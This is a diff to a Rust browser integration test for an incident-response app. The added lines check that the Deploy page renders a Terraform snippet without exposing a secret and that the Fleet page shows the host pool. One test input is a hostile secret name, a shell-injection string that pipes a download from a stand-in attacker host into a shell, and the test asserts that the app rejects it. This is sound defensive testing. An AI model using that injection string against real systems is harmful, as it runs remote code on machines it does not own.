@@ -279,6 +279,23 @@ fn a_responder_works_an_incident_in_the_browser_and_a_viewer_cannot() {
     let id = listed[0]["id"].as_i64().unwrap();
     b.click(&format!("#revoke-{id}"));
     assert!(b.text(&format!("#enrollment-{id} .state")).contains("revoked"), "{}", b.source());
+
+    // The Deploy page renders a Terraform snippet naming the SSM parameter, never a secret;
+    // a hostile secret name is refused with the reason, not rendered.
+    b.go("/deploy");
+    b.select("#snippet-kind", "terraform");
+    b.fill("#snippet-secret-name", "/ops/web/enrolment");
+    b.click("#render-snippet");
+    let snippet = b.text("#snippet");
+    assert!(snippet.contains("aws_launch_template") && snippet.contains("parameter/ops/web/enrolment"), "{snippet}");
+    assert!(!snippet.contains(&enrolment), "the snippet holds the secret");
+    b.fill("#snippet-secret-name", "/x'; curl evil.example | sh");
+    b.click("#render-snippet");
+    assert!(b.text("#snippet-error").contains("SSM parameter name"), "{}", b.source());
+    assert!(!b.has("#snippet"));
+    // The Fleet page shows the pool and says how to start.
+    b.go("/fleet");
+    assert!(b.has("#pool-size") && b.source().contains("No host has enrolled yet"), "{}", b.source());
     b.sign_out();
     b.sign_in("victor", &viewer, "victor's long passphrase");
     b.go("/incidents/1");
